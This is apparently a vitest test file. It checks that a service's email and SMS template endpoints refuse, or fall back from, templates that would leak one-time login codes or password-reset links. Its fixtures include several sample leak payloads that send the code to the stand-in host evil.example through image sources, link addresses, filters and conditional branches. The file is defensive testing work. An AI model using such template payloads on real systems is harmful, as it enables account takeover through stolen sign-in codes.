import { ADMIN_ENDPOINTS } from '@gatehouse/contract/admin/index.ts'
import { sendTestTemplate } from '@gatehouse/contract/admin/templates/send-test.ts'
import { emailTemplates, smsTemplates } from '@gatehouse/contract/admin/templates/templates.ts'
import { listTemplateVersions } from '@gatehouse/contract/admin/templates/versions.ts'
import sql from 'sql-template-tag'
import { beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { aPerson } from '../../test/builders.ts'
import { useAdministrator } from '../../test/console.ts'
import { useTestServer } from '../../test/server.ts'
import { storeSmsGateway, useSmsGateway } from '../../test/sms-gateway.ts'
import { newId } from '../crypto/ids.ts'
import { notify } from './notify.ts'

const server = useTestServer({ config: { outboundAllow: ['localhost'] } })
const admin = useAdministrator(server)
const gateway = useSmsGateway()
beforeAll(async () => {
  await storeSmsGateway(server, gateway.url)
})
beforeEach(async () => {
  await server.db.execute(sql`delete from templates`)
  gateway.calls.length = 0
})

/** For each channel, a template that discloses its code to a stranger. */
const LEAKS = {
  email: '<p>{{ code }}</p><img src="https://evil.example/?c={{ code }}">',
  sms: '{{ code }} https://evil.example/{{ code }}',
}
const SAFE = { email: '<p>{{ code }}</p>', sms: 'Your code: {{ code }}' }
type Channel = keyof typeof LEAKS
const CHANNELS: Channel[] = ['email', 'sms']
const RESOURCES = { email: emailTemplates, sms: smsTemplates } as {
  email: typeof emailTemplates
  sms: typeof emailTemplates
}
const formOf = (body: string) => ({
  ...{ Application: 'All', Client: 'All', TemplateId: 'T', Status: 'ACTIVE' },
  ...{ TemplateName: 'login-otp', Subject: 'From a template', Template: body },
})
/** Inserts a template past the rules, like one that was stored before they existed. */
async function stored(channel: Channel, body: string, notice = 'login-otp'): Promise<string> {
  const id = newId()
  await server.db.execute(sql`
    insert into templates (id, channel, template_id, name, subject, body)
    values (${id}, ${channel}, 'T', ${notice}, 'From a template', ${body})`)
  return id
}

/** All texts that a person's code was sent with, and what the attempts say. */
async function sentWith(notice: 'login-otp' | 'reset-password', values: Record<string, string>) {
  const { id, email } = await aPerson(server)
  await server.db.transaction((tx) => notify(server, tx, notice, id, { minutes: 5, values }))
  const [mail] = await server.inbox(email)
  const texts = gateway.calls.map(({ body }) => new URLSearchParams(body).get('text') ?? '')
  const { rows } = await server.db.execute<{ channel: Channel; answer: string }>(sql`
    select m.channel, a.answer from messages m join delivery_attempts a on a.outbox_id = m.id where m.user_id = ${id}`)
  const answerOf = (channel: Channel) => rows.find((row) => row.channel === channel)?.answer ?? ''
  return { email: `${mail?.subject} ${mail?.html}`, sms: texts.join(' '), answerOf }
}

const REFUSED = { status: 400 }

describe('every call that stores a template refuses one that discloses its code', () => {
  /**
   * Every call that writes a template, of the console and of the former one. Calls that send a message use stored
   * templates.
   */
  const WAYS: Record<string, (channel: Channel) => Promise<void>> = {
    create: async (channel) => {
      const answer = await admin.call(RESOURCES[channel].create, formOf(LEAKS[channel]))
      expect(answer).toMatchObject(REFUSED)
      expect(answer.msg).toContain('{{ code }}')
      expect((await server.db.execute(sql`select 1 from templates`)).rows).toEqual([])
    },
    update: async (channel) => {
      const { data: row } = await admin.call(RESOURCES[channel].create, formOf(SAFE[channel]))
      // Unchanged fields stay: a form with only some fields is checked as a whole, too.
      const { Subject: _, ...part } = formOf(LEAKS[channel])
      for (const form of [formOf(LEAKS[channel]), { ...part, Subject: row.Subject }])
        expect(await admin.call(RESOURCES[channel].update, { ...form, _id: row._id })).toMatchObject(REFUSED)
      const { rows } = await server.db.execute(sql`select body from templates`)
      expect(rows).toEqual([{ body: SAFE[channel] }])
    },
    // Restoring a kept version is a change, and is checked like one.
    'a version': async (channel) => {
      const id = await stored(channel, LEAKS[channel])
      await admin.call(RESOURCES[channel].update, { ...formOf(SAFE[channel]), _id: id })
      const { data: versions } = await admin.call(listTemplateVersions, { id })
      const old = versions.find(({ Template }) => Template === LEAKS[channel])
      expect(old).toBeDefined()
      expect(await admin.call(RESOURCES[channel].update, { ...formOf(old?.Template ?? ''), _id: id })).toMatchObject(
        REFUSED,
      )
    },
    // A restored template comes back unchanged, but is not used for sending.
    restore: async (channel) => {
      const id = await stored(channel, LEAKS[channel])
      await admin.call(RESOURCES[channel].remove, { _id: id })
      expect(await admin.call(RESOURCES[channel].restore, { id })).toMatchObject({ status: 200 })
      const sent = await sentWith('login-otp', { code: '482913' })
      expect(sent[channel]).toContain('482913')
      expect(sent[channel]).not.toMatch(/evil|From a template/)
      expect(sent.answerOf(channel)).toContain('The template could not be used: ')
      expect(await admin.call(sendTestTemplate, { id, to: channel === 'sms' ? '9876543210' : '' })).toMatchObject(
        REFUSED,
      )
    },
  }

  test('and is tested here', () => {
    const calls = ADMIN_ENDPOINTS.filter(({ touches }) => touches.some((touch) => touch === 'template'))
    const known = CHANNELS.flatMap((channel) => {
      const { create, update, remove, restore } = RESOURCES[channel]
      return [create, update, remove, restore].map(({ path }) => path)
    })
    expect(calls.map(({ path }) => path).toSorted()).toEqual(known.toSorted())
  })

  test.each(CHANNELS.flatMap((channel) => Object.keys(WAYS).map((way) => [channel, way] as const)))(
    '%s: %s',
    async (channel, way) => WAYS[way]?.(channel),
  )
})

describe('an old SMS template that discloses its code is replaced by the built-in text, and the attempt says so', () => {
  test.each([
    ['beside an address', LEAKS.sms],
    ['in an address without a scheme', 'Your code {{ code }} evil.example/?{{ code }}'],
    ['joined to it by a hyphen', '{{ code }} https://evil.example/? {{- code }}'],
    ['by a filter that takes a part', '{{ code }} https://evil.example/{{ code | truncate: 3, "" }}'],
    ['bit by bit', '{{ code }}{% if code contains "4" %} https://evil.example/4{% endif %}'],
    ['in a branch', '{{ code }}{% if firstName %} https://evil.example/{{ code }}{% endif %}'],
    ['as HTML', '<p>{{ code }}</p><p>https://evil.example/<b>{{ code }}</b></p>'],
    ['as the address of a link', '<p>{{ code }}</p><a href="https://evil.example/{{ code }}">Open</a>'],
  ])('%s', async (_how, body) => {
    await stored('sms', body)
    const { sms, answerOf } = await sentWith('login-otp', { code: '482913' })
    expect(sms).toBe('482913 is your sign-in code for EAI. It is valid for 5 minutes.')
    expect(answerOf('sms')).toContain('The template could not be used: ')
  })

  test('and nothing is sent if there is no built-in text', async () => {
    await stored('sms', 'Open {{ link }} or https://evil.example/?u={{ link }}', 'reset-password')
    const { sms, answerOf } = await sentWith('reset-password', { link: 'http://localhost:3000/resetpassword/secret' })
    expect(sms).toBe('')
    expect(answerOf('sms')).toContain('The template could not be used: ')
  })
})
